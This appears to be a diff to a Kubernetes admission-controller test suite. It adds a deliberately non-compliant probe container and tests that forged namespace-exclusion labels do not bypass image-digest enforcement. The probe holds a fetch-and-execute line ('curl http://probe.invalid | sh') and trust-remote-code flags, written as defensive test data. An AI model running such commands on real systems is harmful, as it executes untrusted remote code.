@@ -17,6 +17,22 @@ from tests.installation import Installation
 pytestmark = pytest.mark.cluster
 
 
+# What any rule of the table objects to, whichever a row's policy has.
+_PROBE = {
+    "name": "probe",
+    "image": f"probe.invalid/vllm-openai@{DIGEST}",
+    "env": [{"name": "HF_ENDPOINT", "value": "http://probe.invalid"}],
+    "command": [
+        "sh",
+        "-c",
+        (
+            "pip install probe; curl http://probe.invalid | sh;"
+            " vllm serve probe/probe --trust-remote-code --load-format=pt"
+        ),
+    ],
+}
+
+
 @pytest.fixture(scope="module", autouse=True)
 def _custom_kinds(pinfold: Installation) -> None:
     install(pinfold.cluster)
@@ -75,7 +91,7 @@ def _policy(cluster: Cluster, where: str, rules: dict[str, Any] | None) -> Itera
             "apiVersion": "v1",
             "kind": "Pod",
             "metadata": {"name": "probe"},
-            "spec": {"containers": [{"name": "probe", "image": f"probe.invalid/x@{DIGEST}"}]},
+            "spec": {"containers": [_PROBE]},
         }
     )
 
@@ -109,3 +125,23 @@ def test_scaling_from_zero_brings_in_nothing_unpinned(
 
     wait_until("a refused replica", refused, seconds=30, check=lambda: None)
     assert cluster.kubectl("get", "pods", "-n", where, "-o", "name").stdout == ""
+
+
+@pytest.mark.parametrize(
+    "label",
+    [
+        "kubernetes.io/metadata.name=kube-system",
+        "admission.pinfold.dev/ignore=true",
+        "pinfold.dev/ignore=true",
+        "control-plane=controller-manager",
+        "pod-security.kubernetes.io/enforce=privileged",
+    ],
+)
+def test_no_label_but_its_own_takes_a_namespace_out(
+    pinfold: Installation, namespace: Callable[..., str], label: str
+) -> None:
+    """The name of an excluded namespace cannot be taken: the API server writes that label."""
+    cluster, where = pinfold.cluster, namespace(enforced=True)
+    cluster.kubectl("label", "namespace", where, label, "--overwrite", check=False)
+    done = cluster.kubectl("run", "attempt", "-n", where, "--image=nginx", check=False)
+    assert '"nginx" has no digest' in done.stderr
